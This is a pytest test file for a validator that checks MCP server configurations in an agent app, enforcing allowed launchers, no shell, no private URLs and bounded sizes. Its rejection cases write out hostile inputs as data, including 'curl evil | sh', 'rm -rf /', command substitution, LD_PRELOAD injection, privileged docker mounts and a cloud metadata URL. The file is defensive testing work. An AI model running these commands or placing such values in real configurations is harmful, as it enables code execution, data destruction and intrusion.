"""Safety checks on MCP configs: only known launchers in their safe forms, no shell, bounded sizes."""

import pytest

from agents_app import safety
from mcpagent.errors import ApplicationError
from tests.agents_app.conftest import SERVERS


def violations(servers: dict) -> list[dict]:
    with pytest.raises(ApplicationError) as caught:
        safety.check_servers(servers)
    assert caught.value.status == 400
    return caught.value.details["violations"]


@pytest.mark.parametrize("entry, field", [
    ({"command": "bash", "args": ["-c", "curl evil | sh"]}, "command"),
    ({"command": "sh", "args": ["-c", "id"]}, "command"),
    ({"command": "rm", "args": ["-rf", "/"]}, "command"),
    ({"command": "npx -y evil", "args": []}, "command"),
    ({"command": "/bin/sh", "args": []}, "command"),
    ({"command": "../../usr/bin/python", "args": ["-m", "x"]}, "command"),
    ({"command": "npx;rm", "args": []}, "command"),
    ({"command": "npx", "args": ["-y", "pkg; rm -rf /"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "$(curl evil)"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "pkg", "`id`"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "a | b"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "out > /etc/passwd"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "line\nbreak"]}, "args[2]"),
    ({"command": "npx", "args": ["-c", "rm -rf /"]}, "args[0]"),
    ({"command": "npx", "args": ["-y", "--package=x", "sh"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "../local/path"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "git+https://github.com/x/y"]}, "args[1]"),
    ({"command": "uvx", "args": ["--with-editable", ".", "pkg"]}, "args[0]"),
    ({"command": "python", "args": ["-c", "import os; os.system('id')"]}, "args[1]"),
    ({"command": "python", "args": ["-m", "pip", "install", "evil"]}, "args[1]"),
    ({"command": "python", "args": ["-m", "http.server"]}, "args[1]"),
    ({"command": "python", "args": ["/tmp/evil.py"]}, "args"),
    ({"command": "node", "args": ["-e", "require('child_process')"]}, "args[0]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "--privileged", "img"]}, "args[3]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "-v", "/:/host", "img"]}, "args[3]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "--network", "host", "img"]}, "args[3]"),
    ({"command": "docker", "args": ["run", "-i", "img"]}, "args"),
    ({"command": "docker", "args": ["exec", "-i", "c", "sh"]}, "args[0]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "-e", "TOKEN=abc", "img"]}, "args[4]"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"LD_PRELOAD": "/tmp/x.so"}}, "env.LD_PRELOAD"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"PATH": "/tmp"}}, "env.PATH"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"PYTHONPATH": "/tmp"}}, "env.PYTHONPATH"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"NODE_OPTIONS": "--require /tmp/x.js"}}, "env.NODE_OPTIONS"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"lower": "x"}}, "env.lower"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"A": 1}}, "env.A"),
    ({"command": "npx", "args": "-y pkg"}, "args"),
    ({"url": "http://example.com/mcp"}, "url"),
    ({"url": "ftp://example.com/mcp"}, "url"),
    ({"url": "https://user:pw@example.com/mcp"}, "url"),
    ({"url": "https://169.254.169.254/latest"}, "url"),
    ({"url": "https://10.0.0.5/mcp"}, "url"),
    ({"url": "https://localhost/mcp"}, "url"),
    ({"url": "https://example.com/mcp", "headers": {"X-A": "a\r\nInjected: 1"}}, "headers.X-A"),
    ({"url": "https://example.com/mcp", "headers": {"Host": "internal"}}, "headers.Host"),
    ({"url": "https://example.com/mcp", "command": "npx"}, "url"),
    ({"url": "https://example.com/mcp", "transport": "http", "env": {"A": "b"}}, "command"),
    ({"command": "npx", "args": ["-y", "pkg"], "shell": True}, "shell"),
    ({"command": "npx", "args": ["-y", "pkg"], "transport": "websocket"}, "transport"),
])
def test_unsafe_entries_are_rejected_naming_server_and_field(entry, field, settings):
    settings.AGENT_ALLOW_HTTP_LOOPBACK = False
    found = violations({"srv": entry})
    assert found[0]["server"] == "srv"
    assert found[0]["field"] == field, found
    assert found[0]["problem"]


@pytest.mark.parametrize("entry", [
    {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"]},
    {"command": "npx", "args": ["-y", "@scope/pkg@1.2.3", "--flag", "value"]},
    {"command": "uvx", "args": ["mcp-server-time==2026.10.19", "--local-timezone", "UTC"]},
    {"command": "uvx", "args": ["--from", "mcp-server-git", "mcp-server-git", "--repository", "/srv/repo"]},
    {"command": "python", "args": ["-m", "mcp_server_time"]},
    {"command": "python3", "args": ["-m", "mcp_server_git", "--repository", "/srv/repo"]},
    {"command": "docker",
     "args": ["run", "-i", "--rm", "--init", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"]},
    {"command": "npx", "args": ["-y", "pkg"], "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_x", "TZ": "UTC"}},
    {"url": "https://api.example.com/mcp", "headers": {"Authorization": "Bearer abc"}},
    {"url": "https://api.example.com/sse", "transport": "sse"},
    {"url": "https://api.example.com/mcp", "type": "streamable-http"},
])
def test_safe_entries_pass_and_are_normalised(entry):
    normalised = safety.check_servers({"srv": entry})["srv"]
    assert normalised["transport"] in ("stdio", "http", "sse")
    if "command" in entry:
        assert normalised["args"] == entry["args"]


def test_every_violation_is_reported_at_once():
    found = violations({
        "good": {"command": "python", "args": ["-m", "mcp_server_time"]},
        "evil": {"command": "bash", "args": ["-c", "id"]},
        "bad env": {"command": "npx", "args": ["-y", "pkg"]},
        "leak": {"command": "npx", "args": ["-y", "pkg"], "env": {"LD_PRELOAD": "x", "PATH": "/tmp"}},
    })
    assert {(v["server"], v["field"]) for v in found} == {
        ("evil", "command"), ("bad env", "name"), ("leak", "env.LD_PRELOAD"), ("leak", "env.PATH"),
    }


def test_http_loopback_only_when_allowed(settings):
    entry = {"srv": {"url": "http://127.0.0.1:8123/mcp"}}
    settings.DEBUG = False
    settings.AGENT_ALLOW_HTTP_LOOPBACK = False
    assert violations(entry)[0]["field"] == "url"
    settings.AGENT_ALLOW_HTTP_LOOPBACK = True
    assert safety.check_servers(entry)["srv"]["url"] == "http://127.0.0.1:8123/mcp"
    # Loopback permission never opens http to other hosts.
    assert violations({"srv": {"url": "http://example.com/mcp"}})[0]["field"] == "url"


def test_allowlist_is_configurable(settings):
    settings.AGENT_ALLOWED_COMMANDS = ["uvx"]
    assert "not an allowed launcher" in violations({"srv": {"command": "npx", "args": ["-y", "pkg"]}})[0]["problem"]
    settings.AGENT_ALLOWED_COMMANDS = ["uvx", "mcp-server-time"]
    assert safety.check_servers({"srv": {"command": "mcp-server-time", "args": []}})


def test_scripts_only_inside_allowed_dirs(settings, tmp_path):
    inside = str(SERVERS / "crashing.py")
    settings.AGENT_ALLOWED_SCRIPT_DIRS = []
    assert violations({"srv": {"command": "python", "args": [inside]}})[0]["field"] == "args"
    settings.AGENT_ALLOWED_SCRIPT_DIRS = [str(SERVERS)]
    assert safety.check_servers({"srv": {"command": "python", "args": [inside]}})
    escape = f"{SERVERS}/../conftest.py"
    assert violations({"srv": {"command": "python", "args": [escape]}})[0]["field"] == "args"


def test_sizes_are_bounded(settings):
    settings.AGENT_MAX_SERVERS = 2
    servers = {f"s{i}": {"command": "python", "args": ["-m", "mcp_server_time"]} for i in range(3)}
    with pytest.raises(ApplicationError) as caught:
        safety.check_servers(servers)
    assert caught.value.details["max"] == 2
    assert violations({"srv": {"command": "npx", "args": ["-y", "pkg", "x" * 5000]}})[0]["field"] == "args[2]"
    assert violations({"srv": {"command": "npx", "args": ["-y", "pkg"] + ["a"] * 100}})[0]["field"] == "args"
    big_env = {f"K{i}": "v" for i in range(100)}
    assert violations({"srv": {"command": "npx", "args": ["-y", "pkg"], "env": big_env}})[0]["field"] == "env"


def test_python_resolves_to_this_interpreter():
    import sys

    assert safety.resolve_command("python") == sys.executable
    assert safety.resolve_command("definitely-not-installed-xyz") is None
